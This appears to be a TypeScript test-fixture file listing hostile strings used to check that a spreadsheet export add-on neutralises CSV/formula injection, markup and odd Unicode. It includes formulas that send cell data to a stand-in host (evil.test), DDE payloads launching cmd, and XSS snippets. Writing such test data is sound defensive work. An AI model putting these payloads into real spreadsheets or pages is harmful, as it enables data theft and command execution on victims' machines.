/**
 * Strings that spreadsheets might read as formulas, numbers, or dates, that pages might read as markup, or that break
 * exported files.
 */

/** Strings that spreadsheet programs may read as formulas, some only after stripping leading characters. */
const FORMULAS = [
  '=1+1',
  '=SUM(A1:A9)',
  '==1+1',
  '=-1',
  '=',
  '+1+1',
  '-1+1',
  '-2+3+cmd',
  '@SUM(1,2)',
  '@',
  '{=1+1}',
  '=HYPERLINK("https://evil.test/?x="&A1,"click")',
  '=IMPORTXML("https://evil.test","//a")',
  '=IMPORTDATA("https://evil.test/"&A1)',
  '=IMPORTRANGE("evil","A1")',
  '=IMAGE("https://evil.test/i.png")',
  '=WEBSERVICE("https://evil.test")',
  '=MARKET_STOCK("9SI")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '\t=1+2',
  '\r=1+3',
  '\n=1+4',
  '\r\n=1+5',
  '   =1+6',
  '\u00a0=1+7',
  '\u3000=1+8',
  '\ufeff=1+9',
  '\u200b=1+10',
  '\u2060=1+11',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,2)',
  "'=1+12",
  "''=1+13",
  "'",
  '‘=1+14',
];

/** Strings with the separators, quotes, and line breaks of exported files. */
const SEPARATED = [
  '"=1+1"',
  '";=1+1;"',
  'a";=1+1;"b',
  'a,=1+1,b',
  '","=1+1',
  'a\t=1+1\tb',
  'a\n=1+1\nb',
  'a\r\n=1+1',
  'a\r=2+1',
  'a|b\\c',
  '_x0041_',
  '_x000D_=1+1',
  `=${'A1&'.repeat(100)}A1`,
];

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '&lt;b&gt;',
  '&#61;1+1',
  '&amp;#61;1+1',
  ']]>',
  '<![CDATA[=1+1]]>',
  '<?= 1 ?>',
  '{{1+1}}',
];

const CHARACTERS = [
  '\u202e=1+1\u202c',
  'abc\u202edcba',
  '\u2066=1\u2069',
  'שלום =1+1',
  '😀=1',
  '👩‍👩‍👧‍👦',
  'e\u0301 and \u00e9',
];

const WORDS = ['null', 'undefined', 'NaN', '-Infinity', 'None', '#N/A', '#REF!', '#ERROR!', 'Loading...'];

/** Strings that look like numbers, dates, or Booleans. Text columns must keep them unchanged. */
const READABLE = [
  '3-4',
  '1/2',
  '2025-06-01',
  '6/1/2025',
  '12:30',
  '1E5',
  '1e-7',
  '00123',
  '0123456789012',
  '9400111899223197428490',
  ' 5 ',
  '5.10',
  '1,234.50',
  '5%',
  '-0',
  'TRUE',
  'false',
];

/** Invalid values for columns of numbers, dates, or Booleans. */
export const STRAY_TEXTS: readonly string[] = [...FORMULAS, ...SEPARATED, ...MARKUP, ...CHARACTERS, ...WORDS];

export const HOSTILE_TEXTS: readonly string[] = [...STRAY_TEXTS, ...READABLE];

/** Field names that are valid only in JSON, excluding names that start with @ or #, which are read as attributes. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("https://evil.test","field")',
  '+1+1',
  '-1+1',
  "'=1+1",
  '<b>field</b>',
  '3-4',
];

/** Trims surrounding white space, like the add-on. */
export function arriving(text: string): string {
  return text.trim();
}
